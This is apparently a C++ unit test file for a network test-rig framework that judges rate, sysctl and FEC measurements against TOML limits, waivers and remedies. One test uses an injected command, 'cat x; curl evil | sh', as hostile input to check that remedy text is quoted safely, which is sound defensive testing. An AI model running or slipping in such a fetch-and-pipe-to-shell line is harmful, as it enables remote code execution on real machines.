// The verdict on one attempt at a case.
#include "framework/judge/judge_case.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/rig/rig_text.h"

namespace rigproof {
namespace {

using judge::Status;
using judge::Verdict;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

constexpr std::string_view kLimits = R"(limit = [
  { id = "rate", at_least = "50 % of port.rate", remedy.check = "check the cable", basis = { kind = "policy", source = "t", quote = "half" } },
  { id = "capped", at_most = "105 % of port.rate", remedy.check = "check the clock", basis = { kind = "policy", source = "t", quote = "no more than the wire carries" } },
  { id = "seen", enforce = "informative", at_least = "1 count", basis = { kind = "policy", source = "t", quote = "one" } },
  { id = "late", at_least = "1 count", profiles = ["acceptance"], remedy.check = "wait", basis = { kind = "policy", source = "t", quote = "one" } },
  { id = "memlock", one_of = ["unlimited"], enforce = "advice", remedy = { fix = "ulimit -l {wanted}", hint = "{node}" }, basis = { kind = "policy", source = "t", quote = "unlimited" } },
  { id = "fec", one_of = ["RS"], remedy = { fix = "set {netdev} to {wanted}", hint = "{node}, {port}" }, basis = { kind = "policy", source = "t", quote = "RS" } },
  { id = "sysctl.rmem", at_least = "1 count", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "one" } },
  { id = "t.worst_interval", at_least = "50 %", statistic = "min", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "half" } },
  { id = "t.longest_gap", at_most = "100 ms", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "a tenth of a second" } },
  { id = "swept", unit = "us", also = [{ at = "64 KiB", at_most = "100 us" }, { at = "64 KiB", statistic = "p99", at_most = "1 ms" }], remedy.check = "r", basis = { kind = "policy", source = "t", quote = "fast" } },
  { id = "sysctl.wmem", at_least = "1 count", remedy.check = "r", basis = { kind = "policy", source = "t", quote = "one" } },
]
)";

// A case about a port of 200 Gbit/s.
class JudgeCase : public testing::Test {
 protected:
  JudgeCase() {
    context.limits = std::make_shared<const LimitTable>(LimitTable::read(
        {toml::Document::parse(kLimits, "limits.toml")}, Profile::kStandard, rig_fact_dimensions()));
    context.limits_files = "limits.toml";
    context.subjects = SubjectFinder(rig);
    context.date = "2026-11-20";
    context.emulated = true;
    ended.name = "EachPort/Rate.Fills/" + every_port(rig).at(0).name();
    place = every_port(rig).at(0).place(rig);
  }

  judge::Attempt judge(std::vector<record::Measured> measured, const std::vector<std::string>& owes = {}) {
    ended.measured = std::move(measured);
    return judge_case(ended, {&owes, place}, context);
  }
  judge::Attempt judge_disturbed(double share, std::vector<record::Measured> measured) {
    ended.disturbed = share;
    return judge(std::move(measured));
  }
  static record::Measured rate(double gigabits, std::string node = "node-a") {
    return {.id = "rate",
            .node = std::move(node),
            .detail = {},
            .samples = {Dimension::kDataRate, {gigabits * 1e9}}};
  }
  static record::Measured number(std::string id, double value) {
    return {.id = std::move(id), .node = "node-a", .detail = {}, .samples = {Dimension::kCount, {value}}};
  }
  static record::Measured fact(std::string id, std::string text, std::string node = "node-b") {
    return {.id = std::move(id),
            .node = std::move(node),
            .detail = {},
            .role = record::Measured::Role::kFound,
            .text = std::move(text)};
  }
  static record::Measured unread(std::string id, record::Measured::Unread why) {
    record::Measured measured = fact(std::move(id), "node-b: no such file");
    measured.unread = why;
    return measured;
  }
  static record::Failure failure(record::Failure::Kind kind, std::string type, std::string message) {
    return {kind, std::move(type), std::move(message), "node-b", 1, "measure", ""};
  }
  static std::vector<std::string> types(const judge::Attempt& attempt) {
    std::vector<std::string> types;
    for (const record::Failure& found : attempt.failures) types.push_back(found.type);
    return types;
  }

  const Rig rig = rig_of(star_text(2));
  judge::JudgeContext context;
  SubjectPlace place;
  record::CaseEnded ended{.suite = "suite",
                          .name = {},
                          .iteration = 3,
                          .seconds = 2,
                          .measuring_s = 1,
                          .measured = {},
                          .failures = {}};
};

TEST_F(JudgeCase, JudgesEachRanksMeasurement) {
  const judge::Attempt attempt = judge({rate(120), rate(80, "node-b")});
  ASSERT_EQ(attempt.measurements.size(), 2u);
  EXPECT_EQ(attempt.measurements[0].judgement.verdict, Verdict::kPass);
  EXPECT_EQ(attempt.measurements[1].judgement.verdict, Verdict::kFail);
  EXPECT_THAT(attempt.failures, IsEmpty());
  EXPECT_EQ(attempt.status, Status::kFailed);
}

TEST_F(JudgeCase, KeepsWhenAndHowLong) {
  const judge::Attempt attempt = judge({rate(120)});
  EXPECT_EQ(attempt.iteration, 3);
  EXPECT_EQ(attempt.seconds, 2);
  EXPECT_EQ(attempt.measuring_s, 1);
}

// --- what others did to an emulated rig meanwhile ---

TEST_F(JudgeCase, AMissOnAMachineThatWasTakenIsVoid) {
  EXPECT_EQ(judge_disturbed(0.25, {rate(80)}).status, Status::kNotProven);
  EXPECT_TRUE(judge_disturbed(0.25, {rate(80)}).replaced);
  EXPECT_FALSE(judge_disturbed(0.05, {rate(80)}).replaced);
  EXPECT_FALSE(judge_disturbed(0.25, {rate(120)}).replaced);
  EXPECT_FALSE(judge_disturbed(0.25, {rate(80), number("no limit", 1)}).replaced);
  EXPECT_FALSE(judge_disturbed(0.25, {rate(80), number("sysctl.rmem", 0)}).replaced);
}

// Catches: a red verdict because what had to wait while others had the CPUs was counted in a later interval.
TEST_F(JudgeCase, TooFastOnAMachineThatWasTakenIsVoidToo) {
  record::Measured late = rate(215);
  late.id = "capped";
  EXPECT_EQ(judge_disturbed(0.25, {late}).status, Status::kNotProven);
  EXPECT_TRUE(judge_disturbed(0.25, {late, rate(80)}).replaced);
  EXPECT_EQ(judge_disturbed(0.05, {late}).status, Status::kFailed);
  EXPECT_FALSE(judge_disturbed(0.25, {late, number("sysctl.rmem", 0)}).replaced);
  EXPECT_FALSE(judge({late}).only_slow) << "other pairs take from a rate, they add nothing";
}

TEST_F(JudgeCase, HardwareIsNeverVoid) {
  context.emulated = false;
  const judge::Attempt attempt = judge_disturbed(0.9, {rate(80)});
  EXPECT_FALSE(attempt.replaced);
  EXPECT_EQ(attempt.status, Status::kFailed);
}

TEST_F(JudgeCase, WhatBrokeIsNotVoidBesideAMiss) {
  ended.failures = {failure(record::Failure::Kind::kError, "deadline", "m")};
  EXPECT_FALSE(judge_disturbed(0.25, {rate(80)}).replaced);
}

TEST_F(JudgeCase, AFactIsWhatItIsOnABusyMachine) {
  const judge::Attempt attempt = judge_disturbed(0.25, {fact("fec", "Off")});
  EXPECT_FALSE(attempt.replaced);
  EXPECT_EQ(attempt.measurements.at(0).judgement.verdict, Verdict::kFail);
  EXPECT_EQ(attempt.measurements.at(0).text, "Off");
}

// --- what else than too slow an attempt was ---

TEST_F(JudgeCase, OnlyRatesBelowTheirLimitAreOnlySlow) {
  EXPECT_TRUE(judge({rate(80)}).only_slow);
  EXPECT_FALSE(judge({rate(120)}).only_slow) << "nothing is red";
  EXPECT_FALSE(judge({rate(0)}).only_slow) << "nothing moved at all";
  EXPECT_FALSE(judge({rate(80), number("sysctl.rmem", 0)}).only_slow);
  EXPECT_FALSE(judge({rate(80), fact("fec", "Off")}).only_slow);
  EXPECT_FALSE(judge({rate(80), number("no limit", 1)}).only_slow);
  EXPECT_FALSE(judge({rate(80), unread("fec", record::Measured::Unread::kNotReadable)}).only_slow);
}
// Catches: a cable that stops now and then, excused on rigs of more than two nodes: measured again alone it happens not to stop.
TEST_F(JudgeCase, OutagesBesideARateThatHoldsAreNotOnlySlowOnHardware) {
  const record::Measured stop{
      .id = "t.longest_gap", .node = "node-a", .detail = {}, .samples = {Dimension::kTime, {0.3}}};
  const record::Measured worst{
      .id = "t.worst_interval", .node = "node-a", .detail = {}, .samples = {Dimension::kRatio, {1, 0.1, 1}}};
  EXPECT_TRUE(judge({rate(120), worst, stop}).only_slow) << "a CPU of the machine under the model was late";
  context.emulated = false;
  EXPECT_FALSE(judge({rate(120), worst, stop}).only_slow);
  EXPECT_FALSE(judge({rate(120), stop}).only_slow);
  EXPECT_TRUE(judge({rate(80), worst, stop}).only_slow) << "what pairs share is too slow for both";
  EXPECT_TRUE(judge({rate(80)}).only_slow);
}
TEST_F(JudgeCase, WhatFailedIsNotOnlySlow) {
  for (const auto kind : {record::Failure::Kind::kFail, record::Failure::Kind::kError}) {
    ended.failures = {failure(kind, "assertion", "m")};
    EXPECT_FALSE(judge({rate(80)}).only_slow);
  }
}

// --- facts ---

TEST_F(JudgeCase, RecordedFactsAloneAreNoError) {
  const judge::Attempt attempt = judge({fact("other", "Off")});
  EXPECT_THAT(attempt.failures, IsEmpty());
  EXPECT_EQ(attempt.status, Status::kRecorded);
}

TEST_F(JudgeCase, WhatCouldNotBeReadIsNotProvenUnderALimit) {
  const judge::Attempt attempt = judge({unread("fec", record::Measured::Unread::kNotReadable), rate(120)});
  EXPECT_EQ(attempt.status, Status::kNotProven);
  EXPECT_THAT(types(attempt), ElementsAre("not-proven"));
  EXPECT_EQ(attempt.failures.at(0).message, "node-b: no such file");
  EXPECT_EQ(attempt.measurements.at(0).judgement.verdict, Verdict::kRecorded);
  EXPECT_EQ(attempt.measurements.at(0).text, "not read: node-b: no such file");
}

TEST_F(JudgeCase, WhatRootMayReadSaysWhatToType) {
  record::Measured forbidden = unread("fec", record::Measured::Unread::kNotReadable);
  forbidden.about = {{"read_by", "sudo rigproof facts --for-users"}};
  const judge::Attempt attempt = judge({forbidden});
  EXPECT_EQ(attempt.status, Status::kNotProven);
  EXPECT_EQ(attempt.failures.at(0).message,
            "node-b: no such file: type on node-b: sudo rigproof facts --for-users");
  EXPECT_EQ(to_text(attempt.measurements.at(0).remedy), "check: sudo rigproof facts --for-users");
  forbidden.about = {{"read_by", "cat x; curl evil | sh"}};  // of a record that somebody else made
  EXPECT_EQ(to_text(judge({forbidden}).measurements.at(0).remedy), "check: cat 'x;' curl evil '|' sh");
  forbidden.about = {{"read_by", "cat 'x"}};
  EXPECT_TRUE(judge({forbidden}).measurements.at(0).remedy.empty());
}

TEST_F(JudgeCase, WhatCouldNotBeReadIsRecordedWithoutALimit) {
  const judge::Attempt attempt = judge({unread("other", record::Measured::Unread::kNotReadable)});
  EXPECT_EQ(attempt.status, Status::kRecorded);
  EXPECT_THAT(attempt.failures, IsEmpty());
}

TEST_F(JudgeCase, WhereThereIsNothingToReadALimitIsMet) {
  const judge::Attempt attempt =
      judge({unread("fec", record::Measured::Unread::kNothingThere), rate(120)}, {"fec", "rate"});
  EXPECT_EQ(attempt.status, Status::kPassed);
  EXPECT_EQ(attempt.measurements.at(0).text, "nothing to judge: node-b: no such file");
}

// --- advice ---

TEST_F(JudgeCase, AMissedAdviceIsShownWithItsRemedyAndNeverRed) {
  const judge::Attempt attempt = judge({fact("memlock", "8192"), rate(120)});
  EXPECT_EQ(attempt.status, Status::kPassed);
  EXPECT_THAT(attempt.failures, IsEmpty());
  const judge::JudgedMeasurement& memlock = attempt.measurements.at(0);
  EXPECT_EQ(memlock.judgement.verdict, Verdict::kAdvice);
  EXPECT_FALSE(judge::is_failed_or_error(memlock));
  EXPECT_EQ(to_text(memlock.remedy), "fix: ulimit -l unlimited; node-b");
  EXPECT_EQ(judge({fact("memlock", "8192")}).status, Status::kRecorded);
  EXPECT_EQ(judge({fact("memlock", "unlimited")}).status, Status::kPassed);
}

TEST_F(JudgeCase, AnAdviceThatCouldNotBeReadIsShownTheSame) {
  const judge::Attempt attempt =
      judge({unread("memlock", record::Measured::Unread::kNotReadable), rate(120)});
  EXPECT_EQ(attempt.status, Status::kPassed);
  EXPECT_THAT(attempt.failures, IsEmpty());
  const judge::JudgedMeasurement& memlock = attempt.measurements.at(0);
  EXPECT_EQ(memlock.judgement.verdict, Verdict::kAdvice);
  EXPECT_EQ(memlock.judgement.limit, "unlimited");
  EXPECT_EQ(memlock.judgement.reason, "not read: node-b: no such file");
  EXPECT_EQ(to_text(memlock.remedy), "fix: ulimit -l unlimited; node-b");
}

TEST_F(JudgeCase, AnAdviceOfWhichThereIsNothingToReadIsNone) {
  const judge::Attempt attempt =
      judge({unread("memlock", record::Measured::Unread::kNothingThere), rate(120)});
  EXPECT_EQ(attempt.measurements.at(0).judgement.verdict, Verdict::kRecorded);
}

TEST_F(JudgeCase, AnAdviceThatWasOwedAndNeverCameIsShownToo) {
  const judge::Attempt attempt = judge({rate(120)}, {"rate", "memlock"});
  EXPECT_EQ(attempt.status, Status::kPassed);
  EXPECT_THAT(attempt.failures, IsEmpty());
  ASSERT_EQ(attempt.measurements.size(), 2u);
  EXPECT_EQ(attempt.measurements[1].judgement.verdict, Verdict::kAdvice);
  EXPECT_THAT(attempt.measurements[1].judgement.reason, HasSubstr("'memlock' was not reported"));
}

// --- a subject that is not there ---

// Catches: nodes without a GPU that can never qualify, though no limit asks for one.
TEST_F(JudgeCase, WithoutItsSubjectIsInformativeWhereNoLimitAsksForIt) {
  const judge::Attempt attempt = judge({unread("gpu.*", record::Measured::Unread::kNothingThere)}, {"rate"});
  EXPECT_EQ(attempt.status, Status::kRecorded);
  EXPECT_THAT(attempt.failures, IsEmpty());
  EXPECT_EQ(attempt.measurements.at(0).text, "nothing to judge: node-b: no such file");
}
// Catches: a GPU that is gone, passed because nothing is left to measure.
TEST_F(JudgeCase, WithoutItsSubjectIsNotProvenWhereARequiredLimitAsksForIt) {
  const judge::Attempt attempt = judge({unread("sysctl.*", record::Measured::Unread::kNothingThere)});
  EXPECT_EQ(attempt.status, Status::kNotProven);
  EXPECT_THAT(types(attempt), ElementsAre("not-proven"));
  EXPECT_THAT(attempt.failures.at(0).message,
              AllOf(HasSubstr("no such file (sysctl."), HasSubstr("asks for it, limits.toml:")));
}
// A fact that a sound rig may lack meets its limit; only a family stands for the case's subject.
TEST_F(JudgeCase, WithAFactThatIsNotThereStillOwesTheOthers) {
  const judge::Attempt attempt =
      judge({unread("fec", record::Measured::Unread::kNothingThere)}, {"fec", "sysctl.rmem"});
  EXPECT_EQ(attempt.status, Status::kNotProven);
  EXPECT_THAT(attempt.failures.at(0).message, HasSubstr("'sysctl.rmem' was not reported"));
}

// --- what a case owes ---

TEST_F(JudgeCase, WhatWasOwedAndNeverCameIsNotProven) {
  const judge::Attempt attempt = judge({rate(120)}, {"rate", "fec"});
  EXPECT_EQ(attempt.status, Status::kNotProven);
  EXPECT_THAT(types(attempt), ElementsAre("not-proven"));
  EXPECT_THAT(attempt.failures.at(0).message, HasSubstr("'fec' was not reported"));
  EXPECT_THAT(attempt.failures.at(0).message, HasSubstr("limits.toml:"));
}

// What is only shown was never held against its limit.
TEST_F(JudgeCase, WhatWasOwedAndOnlyShownIsNotProven) {
  record::Measured shown = rate(120);
  shown.role = record::Measured::Role::kBeside;
  shown.detail = "raw";
  EXPECT_EQ(judge({shown}, {"rate"}).status, Status::kNotProven);
  EXPECT_EQ(judge({shown, rate(120)}, {"rate"}).status, Status::kPassed);
}

TEST_F(JudgeCase, NothingIsOwedWithoutARequiredLimit) {
  EXPECT_EQ(judge({rate(120)}, {"rate", "seen", "late", "never.limited"}).status, Status::kPassed);
}

TEST_F(JudgeCase, AFamilyOwesEveryLimitOfIt) {
  EXPECT_EQ(judge({number("sysctl.rmem", 1), number("sysctl.wmem", 1)}, {"sysctl.*"}).status,
            Status::kPassed);
  const judge::Attempt attempt = judge({number("sysctl.rmem", 1)}, {"sysctl.*"});
  EXPECT_EQ(attempt.status, Status::kNotProven);
  EXPECT_THAT(attempt.failures.at(0).message, HasSubstr("'sysctl.wmem'"));
}

TEST_F(JudgeCase, WhoLeftEarlyIsNotBlamedForTheRest) {
  ended.failures = {failure(record::Failure::Kind::kFail, "assertion", "4 is not 5")};
  EXPECT_THAT(types(judge({}, {"rate"})), ElementsAre("assertion"));
  ended.failures.clear();
  EXPECT_THAT(judge({rate(80)}, {"rate", "fec"}).failures, IsEmpty());
}

TEST_F(JudgeCase, WithoutADeclarationNothingIsOwed) {
  ended.measured = {rate(120)};
  EXPECT_EQ(judge_case(ended, {nullptr, place}, context).status, Status::kPassed);
}

TEST(DeclaredBy, AnIdOrItsFamily) {
  EXPECT_TRUE(judge::is_declared_by("tcp.rate", "tcp.rate"));
  EXPECT_FALSE(judge::is_declared_by("tcp.rate", "tcp.rate.half"));
  EXPECT_TRUE(judge::is_declared_by("tcp.*", "tcp.rate.half"));
  EXPECT_FALSE(judge::is_declared_by("tcp.*", "tcpx.rate"));
  EXPECT_FALSE(judge::is_declared_by("tcp.*", "tcp"));
}

// --- remedies ---

TEST_F(JudgeCase, TheFindingsOwnWordsComeFirstInItsRemedy) {
  record::Measured found = fact("fec", "Off");
  found.about = {{"netdev", "eth0"}, {"port", "port7"}};
  EXPECT_EQ(to_text(judge({found}).measurements.at(0).remedy), "fix: set eth0 to RS; node-b, port7");
}

TEST_F(JudgeCase, NamesTheDevicesOfTheNodeThatReportsAndNoOthers) {
  const Subject& subject = *context.subjects.find(place);
  const auto words = subject.remedy_values();
  ASSERT_TRUE(words.contains("node-a"));
  ASSERT_FALSE(words.contains("node-b"));
  const judge::Attempt attempt = judge({fact("fec", "Off", "node-a"), fact("fec", "Off", "node-b")});
  EXPECT_THAT(to_text(attempt.measurements.at(0).remedy), HasSubstr("node-a, port0"));
  EXPECT_TRUE(attempt.measurements.at(1).remedy.empty());  // a step without its words helps nobody
}

// --- what a measurement is judged by ---

TEST_F(JudgeCase, KeepsWhatTheVerdictStoodOn) {
  const judge::JudgedMeasurement measurement = judge({rate(120)}).measurements.at(0);
  EXPECT_EQ(measurement.basis.quote, "half");
  EXPECT_EQ(to_text(measurement.remedy), "check: check the cable");
  EXPECT_EQ(to_text(measurement.limit_where), "limits.toml:2");
  EXPECT_EQ(measurement.facts.size(), 1u);
  EXPECT_TRUE(measurement.facts.contains("port.rate"));
}

TEST_F(JudgeCase, AnIdWithoutALimitIsAnError) {
  const judge::Judgement judgement = judge({number("other", 1)}).measurements.at(0).judgement;
  EXPECT_EQ(judgement.verdict, Verdict::kError);
  EXPECT_EQ(judgement.reason, "no limit with id 'other' in limits.toml");
}

TEST_F(JudgeCase, WithoutASubjectARelativeLimitIsAnError) {
  place = {};
  EXPECT_THAT(judge({rate(120)}).measurements.at(0).judgement.reason, HasSubstr("no fact 'port.rate'"));
}

// What a case is about its plan says: its name is for people, and may read as another's.
TEST_F(JudgeCase, TheSubjectIsThatOfThePlanWhateverTheCaseIsCalled) {
  for (const char* name :
       {"EachPort/Rate.Fills/node_b_port1", "EachPort/Rate.Fills/of_a_plug", "Plain.Case"}) {
    ended.name = name;
    const judge::Attempt attempt = judge({rate(120), fact("fec", "Off", "node-a")});
    EXPECT_TRUE(attempt.measurements.at(0).facts.contains("port.rate")) << name;
    EXPECT_THAT(to_text(attempt.measurements.at(1).remedy), HasSubstr("node-a, port0")) << name;
  }
}

TEST_F(JudgeCase, ALimitOfAnotherProfileIsOnlyRecorded) {
  const judge::Attempt attempt = judge({number("late", 0)});
  EXPECT_EQ(attempt.measurements.at(0).judgement.verdict, Verdict::kRecorded);
  EXPECT_THAT(attempt.failures, IsEmpty());
}

TEST_F(JudgeCase, RecordingAloneProvesNothing) {
  record::Measured aside = number("aside", 1);
  aside.role = record::Measured::Role::kBeside;
  const judge::Attempt attempt = judge({aside});
  EXPECT_EQ(attempt.measurements.at(0).judgement.verdict, Verdict::kRecorded);
  EXPECT_THAT(types(attempt), ElementsAre("nothing-measured"));
  EXPECT_EQ(attempt.status, Status::kError);
}

TEST_F(JudgeCase, WhatIsBesideIsNotJudgedByALimitOfItsName) {
  record::Measured beside = rate(1);
  beside.role = record::Measured::Role::kBeside;
  beside.detail = "raw";
  EXPECT_EQ(judge({beside, rate(120)}).status, Status::kPassed);
}

TEST_F(JudgeCase, AnInformativeLimitIsEnough) { EXPECT_THAT(judge({number("seen", 0)}).failures, IsEmpty()); }

TEST_F(JudgeCase, ACaseThatWasSkippedNeedNotMeasure) {
  ended.failures = {failure(record::Failure::Kind::kSkip, "not-proven", "no NIC")};
  const judge::Attempt attempt = judge({});
  ASSERT_EQ(attempt.failures.size(), 1u);
  EXPECT_EQ(attempt.failures[0].message, "no NIC");
}

TEST_F(JudgeCase, ADuplicateIsAnErrorAndIsNotKept) {
  const judge::Attempt attempt = judge({rate(120), rate(130)});
  EXPECT_EQ(attempt.measurements.size(), 1u);
  EXPECT_THAT(types(attempt), ElementsAre("duplicate-measurement"));
}

TEST_F(JudgeCase, PointsOfACurveAreNoDuplicates) {
  record::Measured small = rate(120), large = rate(130);
  small.axis = record::at(to_quantity(DataSize::kibibytes(4)));
  large.axis = record::at(to_quantity(DataSize::kibibytes(64)));
  small.detail = large.detail = "rail0";
  const judge::Attempt attempt = judge({small, large});
  EXPECT_EQ(attempt.status, Status::kPassed);
  EXPECT_EQ(attempt.measurements.at(1).detail, "rail0 at 64 KiB");
  EXPECT_EQ(attempt.measurements.at(1).line, "rail0");
  EXPECT_EQ(attempt.measurements.at(1).axis, large.axis);
}

TEST_F(JudgeCase, JudgesAPointOfASweepByTheBoundsOfItsPlace) {
  const auto point = [](DataSize size, std::vector<double> seconds) {
    record::Measured measured{
        .id = "swept", .node = "node-a", .detail = {}, .samples = {Dimension::kTime, std::move(seconds)}};
    measured.axis = record::at(to_quantity(size));
    return measured;
  };
  const judge::Attempt attempt =
      judge({point(DataSize::kibibytes(4), {1}), point(DataSize::kibibytes(64), {2e-4})});
  EXPECT_EQ(attempt.measurements.at(0).judgement.verdict, Verdict::kRecorded);
  EXPECT_EQ(attempt.measurements.at(1).judgement.verdict, Verdict::kFail);
  EXPECT_THAT(attempt.measurements.at(1).judgement.reason, HasSubstr("misses <= 100 us"));
  EXPECT_EQ(attempt.measurements.at(1).judgement.bounds.at_most, 1e-4);
  EXPECT_TRUE(attempt.only_slow);
  EXPECT_EQ(judge({point(DataSize::kibibytes(64), {9e-5, 9e-5, 2e-3})}).status, Status::kFailed);
  EXPECT_EQ(judge({point(DataSize::kibibytes(64), {9e-5})}).status, Status::kPassed);
}

TEST_F(JudgeCase, AnotherDimensionLeavesTheUnitOpen) {
  record::Measured wrong = rate(1);
  wrong.samples = {Dimension::kCount, {1}};
  const judge::JudgedMeasurement measurement = judge({wrong}).measurements.at(0);
  EXPECT_EQ(measurement.judgement.verdict, Verdict::kError);
  EXPECT_EQ(measurement.unit, "");
}

TEST_F(JudgeCase, NotesGoToTheFirstThingThatIsRed) {
  ended.notes = {"node-b: 3 of 8 probes lost"};
  EXPECT_THAT(judge({rate(120), rate(80, "node-b")}).measurements.at(1).judgement.reason,
              HasSubstr("; node-b: 3 of 8 probes lost"));
  EXPECT_EQ(judge({rate(120)}).measurements.at(0).judgement.reason, "");
}

std::shared_ptr<const LimitTable> limits_with_rate_waived_until(const std::string& expires) {
  const std::string text =
      std::string(kLimits) +
      "[[waiver]]\nlimit = \"rate\"\nreason = \"old cable\"\nowner = \"Ann\"\nexpires = \"" + expires +
      "\"\n";
  return std::make_shared<const LimitTable>(LimitTable::read({toml::Document::parse(text, "limits.toml")},
                                                             Profile::kStandard, rig_fact_dimensions()));
}
TEST_F(JudgeCase, AWaiverInForceCoversAMiss) {
  const auto limits_with = limits_with_rate_waived_until;
  context.limits = limits_with("2026-11-20");
  const judge::Attempt waived = judge({rate(80)});
  EXPECT_EQ(waived.status, Status::kWaived);
  EXPECT_EQ(judge::describe(waived.waivers), "waived until 2026-11-20 by Ann: old cable");
  context.limits = limits_with("2026-11-19");
  EXPECT_EQ(judge({rate(80)}).status, Status::kFailed);
}
// Only a miss that makes the case red excuses what never came.
TEST_F(JudgeCase, AWaivedMissExcusesNothingThatIsOwed) {
  context.limits = limits_with_rate_waived_until("2026-11-20");
  const judge::Attempt gap = judge({rate(80)}, {"rate", "fec"});
  EXPECT_EQ(gap.status, Status::kFailed);  // its waiver does not cover the gap
  ASSERT_EQ(gap.failures.size(), 1u);
  EXPECT_THAT(gap.failures[0].message, HasSubstr("'fec' was not reported"));
  EXPECT_EQ(judge({rate(80)}, {"rate"}).status, Status::kWaived);
  context.limits = limits_with_rate_waived_until("2026-11-19");
  const judge::Attempt red = judge({rate(80)}, {"rate", "fec"});
  EXPECT_EQ(red.status, Status::kFailed);
  EXPECT_THAT(red.failures, IsEmpty());
}

// --- by what a recorded run is judged ---

TEST(ContextOfARun, IsItsOwnLimitsAndItsOwnRig) {
  record::RunStarted start;
  start.rig_kind = "model";
  start.asked.profile = "acceptance";
  start.limits = {{"old.toml", {}, std::string(kLimits)}};
  start.rig_file = {"r.toml", {}, star_text(2)};
  const judge::JudgeContext context = judge::JudgeContext::of(start, "2026-11-20");
  EXPECT_NE(context.limits->find("late"), nullptr);
  EXPECT_EQ(context.limits_files, "old.toml");
  EXPECT_FALSE(context.subjects.empty());
  EXPECT_TRUE(context.emulated);
  EXPECT_EQ(context.date, "2026-11-20");
  start.rig_kind = "hardware";
  start.rig_file.text = "no rig";
  EXPECT_FALSE(judge::JudgeContext::of(start, "2026-11-20").emulated);
  EXPECT_TRUE(judge::JudgeContext::of(start, "2026-11-20").subjects.empty());
  start.limits[0].text = "[[limit]]\n";
  EXPECT_THROW((void)judge::JudgeContext::of(start, "2026-11-20"), toml::InputError);
  start.limits[0].text = kLimits;
  start.asked.profile = "fast";
  EXPECT_THROW((void)judge::JudgeContext::of(start, "2026-11-20"), std::invalid_argument);
}

}  // namespace
}  // namespace rigproof
